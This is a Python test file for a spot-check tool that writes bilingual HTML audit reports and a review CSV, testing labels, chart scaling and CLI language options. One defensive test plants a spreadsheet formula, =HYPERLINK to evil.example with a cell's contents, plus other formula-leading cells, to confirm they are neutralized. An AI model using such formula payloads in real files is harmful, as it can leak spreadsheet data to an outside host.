"""report.html: labels in the auditor's language, a sign-off section, a chart whose small bars show."""

from __future__ import annotations

import re
from collections import Counter

import pytest
from click.testing import CliRunner

from screen.cli.main import main
from screen.spotcheck.report import LABELS, axis_maximum, render_html, write_reports
from screen.spotcheck.transcripts import SampledRecord, SpotCheckResult


def two_percent_result() -> SpotCheckResult:
    records = [
        SampledRecord(f"calls.jsonl:{n}", "calls.jsonl", "你好", ["residual_pii"] if n < 2 else [], place=f"line {n}")
        for n in range(100)
    ]
    return SpotCheckResult(
        "transcripts", ["calls.jsonl"], 10_000, 7, records, ["residual_pii", "optout_phrase"], Counter()
    )


def test_every_language_has_every_label():
    assert set(LABELS) == {"zh-CN", "en"}
    assert set(LABELS["zh-CN"]) == set(LABELS["en"])


@pytest.mark.parametrize("lang", ["zh-CN", "en"])
def test_labels_sign_off_and_review_pointer_in_each_language(lang):
    page = render_html(two_percent_result(), lang)
    labels = LABELS[lang]
    assert f'<html lang="{lang}">' in page
    for key in ("title", "summary", "estimates", "population", "signoff", "reviewer", "date", "verdict", "signature"):
        assert labels[key] in page, key
    other = LABELS["en" if lang == "zh-CN" else "zh-CN"]
    assert other["summary"] not in page and other["signoff"] not in page
    signoff = page.split('<section id="signoff">', 1)[1].split("</section>", 1)[0]
    assert 'href="review.csv"' in signoff
    assert signoff.count('class="fill"') == 4  # reviewer, date, verdict, signature


def test_the_chart_scales_its_axis_so_a_two_percent_bar_is_visible_and_has_ticks():
    result = two_percent_result()
    estimates = result.estimates()
    assert estimates[0].rate == 0.02
    top = axis_maximum(estimates)
    assert top < 0.2  # the bar is not drawn against 100%
    svg = render_html(result, "en").split("<svg", 1)[1].split("</svg>", 1)[0]
    bar = float(re.search(r'<rect [^>]*width="([0-9.]+)"', svg).group(1))
    assert bar >= 25  # pixels
    ticks = re.findall(r'<text class="tick"[^>]*>([^<]+)</text>', svg)
    assert ticks[0] == "0%" and ticks[-1] == f"{100 * top:g}%" and len(ticks) >= 5


def test_the_cli_writes_the_report_in_the_language_asked_for(tmp_path):
    calls = tmp_path / "calls.jsonl"
    calls.write_text('{"text": "你好"}\n{"text": "再见"}\n', encoding="utf-8")
    for lang, expected in (("en", "Sign-off"), (None, "审核签字")):
        out = tmp_path / (lang or "default")
        args = ["spotcheck", str(calls), "--sample", "2", "--seed", "1", "--out-dir", str(out)]
        result = CliRunner().invoke(main, args + (["--lang", lang] if lang else []))
        assert result.exit_code == 0, result.output
        page = (out / "report.html").read_text(encoding="utf-8")
        assert expected in page and f'<html lang="{lang or "zh-CN"}">' in page
    bad = CliRunner().invoke(main, ["spotcheck", str(calls), "--sample", "1", "--lang", "fr"])
    assert bad.exit_code == 2


def test_write_reports_refuses_an_unknown_language_before_writing(tmp_path):
    from screen.errors import UsageError

    with pytest.raises(UsageError):
        write_reports(two_percent_result(), tmp_path / "out", "fr")
    assert not (tmp_path / "out").exists()


def test_review_csv_neutralizes_cells_a_spreadsheet_would_run_as_formulas(tmp_path):
    """Issue 11 item 8: auditors open review.csv in Excel; a cell starting with = + - @ tab or CR
    is a formula there (OWASP "CSV Injection"), so it gets a leading quote."""
    import csv

    from click.testing import CliRunner

    from screen.cli.main import main

    call = tmp_path / "call.txt"
    call.write_text('=HYPERLINK("http://evil.example/?"&A1,"点这里")', encoding="utf-8")
    calls = tmp_path / "calls.jsonl"
    calls.write_text('{"id": "@SUM(A1)", "text": "您好"}\n{"id": "-2+3", "text": "\\t=1+1"}\n', encoding="utf-8")
    out = tmp_path / "out"
    result = CliRunner().invoke(
        main, ["spotcheck", str(call), str(calls), "--sample", "3", "--seed", "1", "--out-dir", str(out)]
    )
    assert result.exit_code == 0, result.output
    with (out / "review.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)
    assert {"'@SUM(A1)", "'-2+3"} <= set(cells)
